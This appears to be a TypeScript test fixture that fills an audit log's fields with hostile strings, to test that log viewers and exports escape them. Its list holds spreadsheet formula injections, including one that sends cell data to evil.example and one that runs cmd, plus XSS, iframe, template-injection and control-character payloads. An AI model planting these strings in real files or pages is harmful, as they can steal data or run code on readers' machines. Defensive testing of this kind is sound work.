import { mkdirSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { advanced, CHAIN_START, nextRecord } from "../../../src/audit/index.ts";
import type { RecordBody, Verdict } from "../../../src/contract/index.ts";

/** What an attacker would have stand in a record to reach whoever reads it. */
export const HOSTILE = [
  '=HYPERLINK("http://evil.example/?"&A1,"x")',
  "+1+cmd|' /C calc'!A0",
  "-2+3",
  "@SUM(1+1)",
  "\t=1+1",
  "\r\n=1+1",
  " =1+1",
  "＝1+1",
  "<script>window.pwned = 1</script>",
  '<img src=x onerror="window.pwned = 1">',
  "</style><script>window.pwned = 1</script>",
  "</title></script><svg onload=window.pwned=1>",
  '"><svg/onload=window.pwned=1>',
  "' onmouseover='window.pwned=1",
  "javascript:window.pwned=1",
  "<iframe src=http://evil.example/></iframe>",
  "<link rel=stylesheet href=http://evil.example/x.css>",
  "{{constructor.constructor('window.pwned=1')()}}",
  "\u202egnp.exe\u0000\u001b[2J",
  "<!-- -->]]>&lt;script&gt;",
];

/** A log in which each of these stands wherever text of others can: worker, tool, input, rule, reason, alarm. */
export function hostileLog(folder: string): void {
  mkdirSync(folder, { recursive: true });
  let state = CHAIN_START;
  const lines = HOSTILE.flatMap(bodiesWith).map((body, at) => {
    const line = JSON.stringify(nextRecord(state, body, new Date(Date.UTC(2026, 2, 1, 0, at)).toISOString()));
    state = advanced(state, line);
    return `${line}\n`;
  });
  writeFileSync(join(folder, "audit-000001.jsonl"), lines.join(""));
}

function bodiesWith(text: string, at: number): RecordBody[] {
  const call = {
    id: `call-${at}`,
    worker: text,
    session: text,
    toolUseId: text,
    tool: text,
    input: { command: text },
    cwd: text,
    digest: "0".repeat(64),
    receivedAt: "2026-03-01T00:00:00.000Z",
  };
  const match = {
    rule: text,
    layer: "project",
    decision: "escalate",
    certainty: "yes",
    reason: text,
    source: text,
  } as const;
  const cause = { text, from: "call" } as const;
  const effects = [
    { kind: "read", path: { kind: "known", value: text }, deep: false, where: { kind: "here" }, cause },
  ] as const;
  const verdict: Verdict = {
    outcome: "escalate",
    effects: [{ effect: 0, outcome: "escalate", matches: [match], by: "rule" }],
    reason: text,
    rules: [text],
    policy: text,
  };
  const decision = {
    outcome: "deny",
    reason: text,
    by: { kind: "person", name: text, via: "prompt" },
  } as const;
  const opened = { type: "escalation.opened", call, effects, verdict, expiresAt: "", notes: [text] } as const;
  return [
    { ...opened, terms: { timeout: 60, unanswered: "deny", approvals: 1 } },
    { type: "call.decided", call, effects, facts: [], verdict, decision, policy: text, latency: 1 },
    { type: "alarm", worker: text, alarm: text, detail: text },
  ];
}
